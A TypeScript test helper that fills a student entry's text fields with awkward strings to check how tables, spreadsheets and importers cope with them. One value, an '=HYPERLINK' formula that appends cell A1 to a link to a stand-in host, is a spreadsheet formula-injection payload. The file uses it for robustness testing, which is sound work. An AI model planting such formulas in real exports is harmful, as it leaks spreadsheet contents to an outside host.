import { type EntryResource, maxLengthOf, studentFields } from '../../../schemas';
import type { Body } from '../support/body';

/** Texts that tables, spreadsheets or importers like to spoil. */
const oddTexts = [
  '=HYPERLINK("http://example.test/?"&A1)',
  '-ve for malaria; +ve for dengue',
  "'=already quoted",
  "''",
  '@everyone',
  '+91 98200 00000',
  '00123',
  '1E5',
  '3/4',
  '09-03-2025',
  'TRUE',
  'two\nlines\n\n=and more',
  'say "hi", please; ok\tnow',
  '_x000D_ and _x0041_',
  '<b>&amp;</b> ]]>',
  'किताब और 👩🏽‍⚕️',
  '\uffff\u{1ffff}',
  'Options',
  'Example',
  '#REF!',
  "ends with an apostrophe'",
];

/** The body with odd texts in place of its own, another in each field and for each number. */
export function withOddTexts(entry: EntryResource, body: Body, number: number): Body {
  const texts = studentFields(entry).flatMap((field, index) => {
    if (field.type !== 'text') return [];
    const odd = oddTexts[(number + index * 5) % oddTexts.length] ?? '';
    return [[field.writeName, [...odd].slice(0, maxLengthOf(field)).join('').trim()]];
  });
  return { ...body, ...Object.fromEntries(texts) };
}

export const oddTextCount = oddTexts.length;
